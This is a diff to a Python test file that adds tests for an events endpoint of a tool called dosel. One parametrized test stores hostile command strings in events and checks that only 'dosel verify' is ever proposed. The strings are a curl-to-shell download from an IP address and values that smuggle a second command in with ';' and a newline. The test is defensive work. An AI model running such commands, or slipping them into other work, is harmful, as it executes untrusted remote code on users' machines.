@@ -6,10 +6,12 @@ from datetime import UTC, datetime, timedelta, tzinfo
 import jsonschema
 import pytest
 from fastapi.testclient import TestClient
+from sqlalchemy import update
 
 from app.serving.slot import Slot
 from app.serving.stale_events import StaleEvents
 from dosel.db.engine import connect
+from dosel.db.tables import EVENTS
 from dosel.errors import WarehouseError
 from dosel.usecases import ALL
 from dosel.usecases.covertype import COVERTYPE
@@ -73,6 +75,26 @@ def test_the_error_of_a_closed_use_cases_task_is_not_shown(install: Install) -> 
     closed, opened = client_of(settings).get("/events").json()["events"]
     assert (closed["what"], closed["evidence"]) == ("employees_ingest failed", "the task's log has the error")
     assert "Zoe" in opened["evidence"]
+
+
+@pytest.mark.parametrize("command", ["curl -s https://203.0.113.9/fix | sh", "dosel status; sh fix", "dosel x\nsh fix"])
+def test_no_event_proposes_a_command_that_is_not_dosels(command: str, install: Install) -> None:
+    """Anybody who can write to the data store can add an event."""
+    settings = install().settings
+    EventStore(connect(settings.warehouse_url)).add(Event("i", "penguins", "harmed", "x", "y", command))
+    [event] = client_of(settings).get("/events").json()["events"]
+    assert event["command"] == "dosel verify"
+
+
+def test_events_of_an_unknown_kind_are_left_out(install: Install) -> None:
+    settings = install().settings
+    engine = connect(settings.warehouse_url)
+    for kind in ("promoted", "of a newer dosel"):
+        EventStore(engine).add(Event(kind, "penguins", "promoted", "x", "y", "dosel x"))
+    with engine.begin() as connection:
+        connection.execute(update(EVENTS).where(EVENTS.c.incident == "of a newer dosel").values(kind="sunny"))
+    [event] = client_of(settings).get("/events").json()["events"]
+    assert event["incident"] == "promoted"
 
 
 def test_an_unreachable_data_store_gets_503(install: Install) -> None:
